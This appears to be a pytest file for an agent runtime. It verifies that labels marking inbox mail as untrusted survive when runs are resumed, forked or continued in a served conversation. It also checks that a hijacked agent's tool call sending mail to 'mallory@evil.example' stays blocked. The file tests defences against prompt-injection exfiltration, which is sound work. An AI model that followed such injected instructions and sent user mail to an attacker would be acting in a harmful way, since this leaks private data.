"""Labels in a journal, and in conversations that others have kept."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx2
import pytest

from concerto import open_store
from concerto.runtime.agents.trust.conversation import Conversation
from concerto.stored_runs import RunStore
from tests.runtime.running import Outcome, chat_at
from tests.runtime.servers import Script, chat_reply
from tests.serving.servers import project, served
from tests.trust.test_approvals import SERVED, TRUSTING
from tests.trust.test_gate import EVIL, READ, TRUST, hijacked, results, with_guard

Run = Callable[..., Outcome]
OTHER = ("Mail__send", {"to": "mallory@evil.example"})
CALLS = """
tool Gate { description: "A person", @source(trusted) @describe("Asks") pub fn pass() -> String; }
agent"""


def waiting(script: Script, run: Run, store: RunStore) -> str:
    """A run that has read the mail, and waits for a person before it acts."""
    source = with_guard("deny").replace("\nagent", CALLS).replace("[Inbox, Mail]", "[Inbox, Mail, Gate]")
    hijacked(script, READ, ("Gate__pass", {}), OTHER)
    stopped = run(source, connections=chat_at(script.url), manifest=TRUST, store=store)
    assert stopped.status == 3
    return stopped.runtime.run_id


def labels(store: RunStore, run: str) -> list[Any]:
    """What each request to a model held, as it stands in the journal."""
    return [json.loads(each.request).get("labels") for each in store.effects(run) if each.kind == "ModelCall"]


def test_a_resumed_run_knows_what_was_untrusted(script: Script, run: Run, tmp_path: Path) -> None:
    store = open_store(tmp_path / "runs.db")
    name = waiting(script, run, store)
    output, (call,) = io.StringIO(), store.get(name).waits_for
    assert store.resume(name, results={call["call_id"]: "go on"}, output=output).ok
    assert "sent to" not in output.getvalue()
    assert json.loads(results(script)[2])["kind"] == "Blocked"
    mail = {"untrusted": ["`Inbox::newest`"]}
    assert labels(store, name) == [None, mail, mail, mail]
    last = [each.key for each in store.effects(name) if each.kind == "ModelCall"][-2]
    script.answer(chat_reply(None, ("f", "Mail__send", json.dumps(EVIL[1]))), chat_reply("done"))
    output = io.StringIO()
    assert store.fork(name, at=last, output=output).ok
    assert "sent to" not in output.getvalue()


def test_a_label_of_the_journal_holds_whatever_is_seen_today(
    script: Script, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As when a server's descriptions have been locked in the meantime."""
    store = open_store(tmp_path / "runs.db")
    name = waiting(script, run, store)
    monkeypatch.setattr(Conversation, "record_result", lambda self, _, text, __: self.trusted.append(text))
    output, (call,) = io.StringIO(), store.get(name).waits_for
    assert store.resume(name, results={call["call_id"]: "go on"}, output=output).ok
    assert "sent to" not in output.getvalue()


def test_a_served_conversation_that_goes_on_knows_it_too(script: Script, tmp_path: Path) -> None:
    """Of the next request a new run is told only the messages."""
    source = SERVED.replace('guard: "approve"', 'guard: "deny"')
    script.answer(chat_reply(None, ("a", "Inbox__newest", "{}")), chat_reply("Shall I send it?"))
    hijacked(script, EVIL)
    with served(project(tmp_path, script.url, source, TRUSTING)) as server:

        def ask(text: str, **more: Any) -> Any:
            body = {"model": "Assistant", "input": text, **more}
            return httpx2.post(f"{server.url}/v1/responses", json=body, timeout=60).json()

        first = ask("What is new?")
        ask("Do it", previous_response_id=first["id"])
    assert json.loads(results(script)[-1])["kind"] == "Blocked"
